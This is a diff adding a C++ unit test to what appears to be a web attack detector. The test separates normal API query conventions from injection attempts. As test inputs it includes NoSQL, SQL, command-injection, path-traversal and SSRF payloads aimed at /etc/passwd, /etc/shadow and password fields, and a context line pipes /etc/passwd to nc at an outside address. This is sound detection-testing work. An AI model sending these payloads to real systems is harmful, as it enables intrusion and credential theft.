@@ -188,5 +188,55 @@ TEST_F(ContextGradingTest, QuotedCodeAndSourceFilesAreTokens) {
   EXPECT_TRUE(jsonAt(1, R"J({"text": "see `ls`; cat /etc/passwd | nc 198.51.100.7 4444"})J"));
 }
 
+// Shapes of public API traffic (OpenAPI examples of APIs whose requests are not in the corpus).
+TEST_F(ContextGradingTest, ApiConventionsAreNotInjections) {
+  // OData / Microsoft Graph system query options are top-level names; a MongoDB operator
+  // under a field, or a top-level $where, still counts.
+  EXPECT_FALSE(get("/v1.0/users?%24search=%22displayName%3Awa%22&%24count=true"));
+  EXPECT_FALSE(get("/v1.0/groups?%24filter=startswith(displayName,'a')&%24top=5"));
+  EXPECT_TRUE(get("/login?user=admin&password%5B%24ne%5D=x"));
+  EXPECT_TRUE(get("/users?%24where=sleep(5000)"));
+  // Operators under a field an API names for its query language (CouchDB's selector, a data
+  // API's filter); the same operator replacing a credential is an injection.
+  EXPECT_FALSE(json(R"({"filter": {"inbox": {"$in": [{"$oid": "abcdef123456789abcdef123"}]}}})"));
+  EXPECT_FALSE(json(R"({"selector": {"year": {"$gt": 2010}}, "fields": ["_id", "title"]})"));
+  EXPECT_TRUE(json(R"({"username": "admin", "password": {"$ne": null}})"));
+  // Ellipses standing for omitted parts of a URL; a climb still counts.
+  EXPECT_FALSE(json(R"({"lines": [{"product_url": "https://.../AD6654412.html"}]})"));
+  EXPECT_TRUE(json(R"({"file": "/.../.../../../etc/hosts"})"));
+  EXPECT_TRUE(get("/view?page=..%2F..%2Fconfig"));
+  // A bare IPv6 address (its first group is no URL scheme); a URL with an IPv6 host counts.
+  EXPECT_FALSE(json(R"({"rules": [{"source_ips": ["ff21:1eac:9a3b:ee58:5ca:990c:8bc9:c03b/128"]}]})"));
+  EXPECT_TRUE(get("/fetch?url=http%3A%2F%2F%5B%3A%3A1%5D%3A6379%2F"));
+  // Addresses as data: an IP to look up, a bind address in a configuration, a redirect target
+  // registered for a native app (RFC 8252). A fetchable URL parameter still counts.
+  EXPECT_FALSE(get("/api/v2/check?ipAddress=127.0.0.1&maxAgeInDays=90"));
+  EXPECT_FALSE(json(R"({"Options": {"com.docker.network.bridge.host_binding_ipv4": "0.0.0.0"}})"));
+  EXPECT_FALSE(json(R"({"client_name": "cli", "redirect_uris": ["http://localhost/oauth.html"]})"));
+  EXPECT_TRUE(get("/proxy?target=127.0.0.1"));
+  EXPECT_TRUE(json(R"({"webhook": "http://localhost:6379/"})"));
+  // Media files and scratch space of a telephony or export API; system files still count.
+  EXPECT_FALSE(get("/calls/1/record?RecordFile=%2Ftmp%2Frecording%2Fsample.wav"));
+  EXPECT_FALSE(get("/play?FilePath=%2Fvar%2Flocal%2Fmedia%2Fsample.wav"));
+  EXPECT_TRUE(get("/download?file=%2Fvar%2Fwww%2Fhtml%2Fconfig.php"));
+  EXPECT_TRUE(get("/download?file=%2Ftmp%2F..%2Fetc%2Fshadow"));
+  // A sentence whose clause after ';' starts with a capitalised word; a command still counts.
+  EXPECT_FALSE(json(R"({"signature": "Signature of CM as defined in W3C standards; Base64 encoded"})"));
+  EXPECT_TRUE(get("/ping?host=example.com%3B+base64+%2Fetc%2Fpasswd"));
+  EXPECT_TRUE(get("/ping?host=example.com%3B+wHoAmI"));
+  // A JSON document in a multipart field is read as JSON; LIMIT needs a row count.
+  std::vector<Header> mp{Header{"Content-Type", "multipart/form-data; boundary=XyZ"}};
+  const auto multipart = [&](std::string_view field) {
+    const std::string body = "--XyZ\r\nContent-Disposition: form-data; name=\"meta\"\r\n\r\n" +
+                             std::string(field) + "\r\n--XyZ--\r\n";
+    RequestView r{.method = "POST", .target = "/upload", .versionMinor = 1, .headers = mp,
+                  .body = body, .bodyTruncated = false};
+    return registered(engine_->inspect(r)).attack();
+  };
+  EXPECT_FALSE(multipart(R"({"limit":"1"})"));
+  EXPECT_TRUE(multipart(R"({"name":"x' union select password from users--"})"));
+  EXPECT_TRUE(get("/items?id=1%27+limit+1--"));
+}
+
 } // namespace
 } // namespace bulwark::detect
